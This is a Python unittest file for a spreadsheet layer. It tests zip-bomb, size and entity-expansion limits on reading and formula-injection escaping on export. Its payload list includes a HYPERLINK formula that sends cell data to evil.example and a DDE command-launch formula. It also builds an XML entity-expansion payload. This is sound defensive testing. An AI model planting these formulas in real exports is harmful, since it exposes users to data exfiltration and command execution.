"""The Excel layer (issue 17, finding 5): limits before openpyxl reads a
workbook, formula-safe cells in every export"""
import io
import re
import tracemalloc
import unittest
import zipfile

from openpyxl import load_workbook

from .. import excel
from ..exceptions import ExcelError
from .tools_excel import many_strings, workbook_bytes, zip_bomb

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=cmd|\' /C calc\'!A0', '+1+2', '-2+3', '@SUM(A1:A2)',
    '\t=1+1', '\r=1+1', '#N/A', '=1/0',
    ]


class ExcelReadTestCase(unittest.TestCase):

    def refused(self, data, code, limits=None):
        with self.assertRaises(ExcelError) as cm:
            list(excel.read_rows(data, limits))
        self.assertEqual(cm.exception.code, code)
        return cm.exception

    def test_zip_bomb_refused_from_the_directory(self):
        "0.5 MB whose shared strings unpack to 174 MiB: refused unread"
        bomb = zip_bomb()
        self.assertLess(len(bomb), 1024 * 1024)
        tracemalloc.start()
        try:
            self.refused(bomb, 'unpacked_too_large')
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        # Nothing was unpacked: the zip directory told the size
        self.assertLess(peak, 8 * 1024 * 1024)

    def test_limits(self):
        rows = [['a', 'b', 'c']] * 5
        data = workbook_bytes(rows)
        self.assertEqual(len(list(excel.read_rows(data))), 5)
        self.refused(data, 'too_many_rows', excel.Limits(rows=4))
        self.refused(data, 'too_many_columns', excel.Limits(columns=2))
        self.refused(data, 'file_too_large', excel.Limits(file=100))
        self.refused(data, 'unpacked_too_large',
            excel.Limits(unpacked=1000))
        self.refused(many_strings(2000), 'too_many_strings',
            excel.Limits(shared_strings=1000))
        # Columns beyond the limit that are empty are only cut
        wide = workbook_bytes([['a', 'b', None, None]])
        self.assertEqual(list(excel.read_rows(wide,
                    excel.Limits(columns=2))), [(1, ('a', 'b'))])

    def test_damaged(self):
        for data in [b'', b'PK\x03\x04garbage', b'not a zip', None,
                workbook_bytes([['a']])[:300]]:
            self.refused(data, 'unreadable')

    def test_shared_strings_doctype_refused(self):
        "An entity expansion in the shared strings is refused, not expanded"
        source = zipfile.ZipFile(io.BytesIO(workbook_bytes([['a']])))
        out = io.BytesIO()
        with zipfile.ZipFile(out, 'w') as target:
            for item in source.infolist():
                if item.filename != 'xl/sharedStrings.xml':
                    target.writestr(item, source.read(item.filename))
            target.writestr('xl/sharedStrings.xml', '<?xml version="1.0"?>'
                '<!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa">'
                '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
                '<sst><si><t>&b;</t></si></sst>')
        self.refused(out.getvalue(), 'unreadable')


class ExcelWriteTestCase(unittest.TestCase):

    def export(self, values):
        book = excel.workbook()
        sheet = book.active
        excel.append(sheet, ['Header'] * len(values))
        excel.append(sheet, values)
        return excel.save(book)

    def test_formula_injection_round_trip(self):
        "Formula-like texts stay texts: never evaluated, read back as sent"
        data = self.export(INJECTIONS + ['plain', 12.5, None])
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            sheet = package.read('xl/worksheets/sheet1.xml').decode()
            styles = package.read('xl/styles.xml').decode()
        # No formula anywhere, every text a (shared or inline) string
        self.assertNotIn('<f>', sheet)
        self.assertNotIn('<f ', sheet)
        self.assertNotIn('t="e"', sheet)
        self.assertIn('quotePrefix="1"', styles)
        book = load_workbook(io.BytesIO(data))
        row = [c.value for c in book.active[2]]
        self.assertEqual(row, [excel.safe_text(v) for v in INJECTIONS]
            + ['plain', 12.5, None])
        for c in book.active[2][:len(INJECTIONS)]:
            self.assertEqual(c.data_type, 's')
            if c.value.startswith(excel.FORMULA_START):
                self.assertTrue(c.quotePrefix, c.value)
        self.assertFalse(book.active[2][len(INJECTIONS)].quotePrefix)
        # Read back through the layer: the exact texts
        read = list(excel.read_rows(data))[1][1]
        self.assertEqual(list(read[:len(INJECTIONS)]),
            [excel.safe_text(v) for v in INJECTIONS])

    def test_illegal_characters_and_titles(self):
        data = self.export(['bell\x07 and nul\x00', 'x' * 40000])
        row = [c.value for c in load_workbook(io.BytesIO(data)).active[2]]
        self.assertEqual(row[0], 'bell and nul')
        self.assertEqual(len(row[1]), excel.MAX_CELL_TEXT)
        self.assertEqual(excel.title('[L1]:*?/\\' + 'x' * 40), 'L1' + 'x' * 29)
        self.assertEqual(excel.title("'"), 'Sheet')
        self.assertTrue(re.fullmatch(r'[^\[\]:*?/\\]{1,31}',
                excel.title('=HYPERLINK("a")')))
